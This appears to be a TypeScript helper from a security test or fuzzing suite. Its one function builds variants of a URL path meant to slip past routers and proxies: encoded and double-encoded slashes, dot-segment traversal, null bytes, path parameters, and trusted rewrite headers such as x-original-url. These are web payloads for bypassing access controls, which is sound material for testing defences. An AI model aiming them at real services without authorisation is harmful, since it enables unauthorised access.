/**
 * Spellings of a path that some routers, proxies or file systems take for another: by case, encoding, slashes, path
 * parameters, dot segments, endings, and by headers that some frameworks trust.
 */
export function pathTricks(path: string): readonly { target: string; headers: Record<string, string> }[] {
  const [, first = '', second = '', ...rest] = path.split('/');
  const tail = rest.join('/');
  const join = (separator: string) => `/${[first, second, ...rest].join(separator)}`;
  const encoded = (text: string) => [...text].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');
  const targets = [
    path.toUpperCase(),
    `/${first.toUpperCase()}/${second}/${tail}`,
    `/${first}/${second.toUpperCase()}/${tail}`,
    `/${encoded(first)}/${second}/${tail}`,
    `/${first}/${encoded(second)}/${tail}`,
    `/${first}/${second}/${encoded(tail)}`,
    `/%2561pi/${second}/${tail}`,
    ...['//', '/./', '/.//', '/x/../', '/%2e/', '/x/%2e%2e/', '/x/%2E%2E/', '/x/.%2e/', '/;/', '/;x=y/', '/%00/'].map(
      join,
    ),
    ...['%2f', '%2F', '%252f', '\\', '%5c', '%255c', '%c0%af', '%ef%bc%8f', '/\\', '\\/'].map(join),
    ...[
      '//',
      '/./',
      '/../',
      '/.../',
      '/x/..',
      '/healthz/..',
      '/assets/..',
      '/%2e%2e/',
      '/;x',
      '/portlet/../',
      '\\',
    ].map((start) => `${start}${start.endsWith('/') ? path.slice(1) : path}`),
    ...[
      '/',
      '//',
      '.',
      '/.',
      '/..',
      '/%2e',
      '%2e',
      '%20',
      '%09',
      '%0a',
      '%0d%0a',
      '%00',
      '%00.js',
      '.json',
      '.html',
      ';x',
      ';x=y',
      '/;x',
      '?',
      '??',
      '%3f',
      '%3fx=y',
      '#x',
      '%23',
      '\\',
      '%5c',
      '/*',
      '~',
      '%ff',
      '%u0061',
    ].map((end) => `${path}${end}`),
    `http://localhost${path}`,
    `http://evil.example${path}`,
  ];
  const headers = ['x-original-url', 'x-rewrite-url', 'x-forwarded-path', 'x-forwarded-prefix', 'x-accel-redirect'];
  return [
    ...targets.map((target) => ({ target, headers: {} })),
    ...headers.map((name) => ({ target: '/healthz', headers: { [name]: path } })),
  ];
}
